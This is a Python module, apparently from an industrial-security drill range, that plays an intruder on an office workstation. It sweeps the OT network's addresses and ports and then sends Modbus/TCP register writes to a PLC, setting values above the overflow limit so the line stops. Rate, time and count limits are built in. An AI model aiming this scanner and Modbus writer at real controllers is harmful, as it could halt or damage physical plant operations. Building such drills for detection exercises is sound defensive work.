"""An intruder on the office workstation, harmlessly: sweeps the OT zone, then writes setpoints that stop the line.

Every write carries its number in its value (900 + number), so that what reached the controller, and when, is beyond
doubt. Bounded by construction: a sweep tries at most 399 connections; writing ends after its time or its count,
whichever comes first, and opens at most one session an attempt.
"""

import argparse
import asyncio
import math
import socket
import struct
import sys
import time

from tercio.drills.range.actor import arguments, play
from tercio.drills.range.sweep import PORTS, addresses, outcome_of, sweep
from tercio.drills.range.topology import HOSTS, SEGMENTS
from tercio.drills.range.traces import Started, Trace, Write, now

FIRST_VALUE = 900
"""What write number 0 carries: above the line's overflow limit in tenths of a per cent."""
MOST_WRITES = 500
MOST_SECONDS = 120.0
"""No intruder writes more often, or longer."""
PATIENCE = 0.3
"""Seconds that a write waits for its answer, and a session for its handshake."""
STUBBORN = 20
"""So many writes in a row may go unanswered on one session before the intruder opens another."""


def intrude(options: argparse.Namespace, trace: Trace) -> None:
    """Sweep if told so, then write if told so."""
    trace.add(Started(now(), "intruder"))
    if options.sweep:
        network = SEGMENTS["ot"].network6 if options.v6 else SEGMENTS["ot"].network4
        targets = options.hosts or addresses(network, 1, 60)
        asyncio.run(sweep(targets, options.ports, options.sweep_rate, trace))
    if options.write:
        writing(options, trace)


def writing(options: argparse.Namespace, trace: Trace) -> None:
    """Write at the given rate until time or count is used up. A session that was reset or refused is opened anew;
    one that merely falls silent is kept, as its unanswered writes still lie in the kernel's send queue."""
    count = min(options.count, MOST_WRITES, math.ceil(min(options.seconds, MOST_SECONDS) * options.rate))
    began = due = time.monotonic()
    silent = 0
    session: socket.socket | None = None
    try:
        for number in range(count):
            time.sleep(max(0.0, due - time.monotonic()))
            due = max(due, time.monotonic()) + 1 / options.rate
            if time.monotonic() - began > min(options.seconds, MOST_SECONDS):
                break
            sequence = options.first + number
            session, done = attempt(session, (options.target, options.port), sequence, options.register)
            trace.add(done)
            silent = silent + 1 if done.outcome == "timeout" else 0
            if session is not None and (silent >= STUBBORN or done.outcome not in {"acked", "exception", "timeout"}):
                session.close()
                session, silent = None, 0
    finally:
        if session is not None:
            session.close()


def attempt(
    session: socket.socket | None, target: tuple[str, int], sequence: int, register: int
) -> tuple[socket.socket | None, Write]:
    """One write on the session, or on a new one where there is none; the session comes back where it may still live."""
    value, at, local_port = FIRST_VALUE + sequence, 0, 0
    try:
        if session is None:
            session = socket.create_connection(target, timeout=PATIENCE)
            session.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        local_port = int(session.getsockname()[1])
        at = now()
        session.sendall(frame(sequence, register, value))
        outcome = answer(session, sequence)
    except TimeoutError:
        outcome = "timeout"
    except OSError as error:
        outcome = outcome_of(error)
    return session, Write(at, now(), sequence, register, value, local_port, outcome)


def frame(sequence: int, register: int, value: int) -> bytes:
    """Modbus/TCP: write single register (function 6), the transaction id is the sequence number."""
    return struct.pack(">HHHBBHH", sequence & 0xFFFF, 0, 6, 1, 6, register, value & 0xFFFF)


def answer(session: socket.socket, sequence: int) -> str:
    """Wait for the answer to this write; late answers to earlier ones are passed over."""
    deadline = time.monotonic() + PATIENCE
    held = b""
    while (left := deadline - time.monotonic()) > 0:
        session.settimeout(left)
        data = session.recv(4096)
        if not data:
            return "reset"
        held += data
        while len(held) >= 6 and len(held) >= (length := 6 + int.from_bytes(held[4:6])):
            head, held = held[:length], held[length:]
            if int.from_bytes(head[:2]) == sequence & 0xFFFF:
                return "exception" if len(head) > 7 and head[7] & 0x80 else "acked"
    return "timeout"


def main(argv: list[str] | None = None) -> int:
    """``python -m tercio.drills.adversaries.intruder --trace FILE --sweep --write``."""
    parser = arguments(str(__doc__).splitlines()[0])
    parser.add_argument("--sweep", action="store_true", help="connect to OT addresses and ports")
    parser.add_argument("--write", action="store_true", help="write setpoints to the controller")
    parser.add_argument("--seconds", type=float, default=10.0, help="how long to go on writing")
    parser.add_argument("--count", type=int, default=MOST_WRITES, help="how many writes at most")
    parser.add_argument("--rate", type=float, default=5.0, help="writes a second")
    parser.add_argument("--first", type=int, default=0, help="number of the first write")
    parser.add_argument("--register", type=int, default=0, help="holding register to write: 0 is the high setpoint")
    parser.add_argument("--v6", action="store_true", help="use IPv6")
    parser.add_argument("--hosts", nargs="*", default=[], help="addresses to sweep; the OT zone unless told")
    parser.add_argument("--ports", nargs="*", type=int, default=list(PORTS), help="ports to sweep, in this order")
    parser.add_argument("--sweep-rate", type=float, default=500.0, help="connections a second")
    parser.set_defaults(target="")
    options = parser.parse_args(argv)
    plc = HOSTS["plc1"]
    options.target = options.target or (plc.address6 if options.v6 else plc.address4)
    if options.rate <= 0 or options.sweep_rate <= 0:
        parser.error("a rate is above 0")
    return play(options, intrude)


if __name__ == "__main__":
    sys.exit(main())
